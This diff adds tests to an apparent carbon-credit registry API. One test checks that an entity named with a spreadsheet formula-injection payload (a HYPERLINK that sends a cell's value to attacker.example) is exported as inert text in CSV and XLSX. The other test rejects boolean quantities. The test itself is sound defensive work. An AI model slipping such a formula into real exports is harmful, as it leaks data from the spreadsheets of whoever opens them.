@@ -4,6 +4,11 @@ document naming the field and a numbered check, and changes nothing."""
 
 from __future__ import annotations
 
+import csv
+import io
+import zipfile
+
+import openpyxl
 import pytest
 from fastapi.testclient import TestClient
 from http_world import Api, HttpWorld, build_world, ok
@@ -13,6 +18,7 @@ from article6.interop.hub import Hub
 from article6.interop.network import MESSAGES_PATH
 from article6.services.context import Registry
 
+YEAR = "2025"
 NESTED = b"[" * 5000 + b"]" * 5000
 PROBLEM = "application/problem+json"
 
@@ -144,3 +150,99 @@ def test_a_rogue_registry_cannot_crash_the_hub_with_nesting(registry: Registry):
     hub = TestClient(create_hub_app(Hub.open(registry)))  # no lifespan: no delivery loop
     response = hub.post(MESSAGES_PATH, content=NESTED, headers={"Content-Type": "application/json"})
     refused(response, 400, "C1016", "body")
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
+
+
+def test_an_entity_named_like_a_formula_is_text_in_every_aef_export(world: HttpWorld):
+    """A Party administrator names an entity `=HYPERLINK(...)`: whoever opens the AEF in a
+    spreadsheet sees the name, and nothing is evaluated."""
+    xxa = world.api["xxa.admin"]
+    ok(
+        xxa.post(
+            "/api/v1/parties/XXA/entities",
+            {
+                "name": FORMULA,
+                "country_of_incorporation": "XXA",
+                "identification_number": "@SUM(1+1)",
+                "cooperative_approach": "CA0001",
+                "date_of_authorization": "2025-06-01",
+            },
+        )
+    )
+    zipped = xxa.get(f"/api/v1/parties/XXA/aef/{YEAR}?format=csv")
+    assert zipped.status_code == 200, zipped.text
+    with zipfile.ZipFile(io.BytesIO(zipped.content)) as bundle:
+        cells = [
+            cell
+            for name in bundle.namelist()
+            for row in csv.reader(io.StringIO(bundle.read(name).decode("utf-8-sig")))
+            for cell in row
+        ]
+    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    workbook = xxa.get(f"/api/v1/parties/XXA/aef/{YEAR}?format=xlsx")
+    assert workbook.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(workbook.content))
+    found = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value == FORMULA
+    ]
+    assert found and all(cell.data_type == "s" for cell in found)
+    assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
+
+
+def test_true_is_not_a_quantity_for_any_command(world: HttpWorld):
+    """`"quantity": true` was taken as 1 unit (Python's bool is an int): now a C1005."""
+    xxa = world.api["xxa.admin"]
+    before = journal_length(world)
+    selection = {"quantity": True}
+    cases = [
+        (
+            "transfers",
+            {
+                "source_account": world["XXA Party mo_holding"],
+                "destination_account": world["XXA Green Group A mo_holding"],
+                "units": selection,
+            },
+            "units.quantity",
+        ),
+        (
+            "issuances",
+            {"mitigation_activity": world.activity, "vintage": 2024, "quantity": True},
+            "quantity",
+        ),
+        (
+            "uses",
+            {"source_account": world["XXA Party mo_holding"], "ndc_year": 2025, "units": selection},
+            "units.quantity",
+        ),
+        (
+            "cancellations",
+            {
+                "source_account": world["XXA Party mo_holding"],
+                "purpose": "voluntary",
+                "units": selection,
+            },
+            "units.quantity",
+        ),
+        (
+            "transfers",
+            {
+                "source_account": world["XXA Party mo_holding"],
+                "destination_account": world["XXA Green Group A mo_holding"],
+                "units": {"ranges": [{"registry": "XXA01", "first": True, "last": True}]},
+            },
+            "units.ranges.0.first",
+        ),
+    ]
+    for route, body, field in cases:
+        refused(xxa.post(f"/api/v1/parties/XXA/{route}", body), 422, "C1005", field)
+    issued = {"mitigation_activity": world.activity, "vintage": False, "quantity": 5}
+    refused(xxa.post("/api/v1/parties/XXA/issuances", issued), 422, "C1006", "vintage")
+    assert journal_length(world) == before
+    assert ok(world.api["secretariat.admin"].get("/api/v1/verification"), 200)["sound"] is True
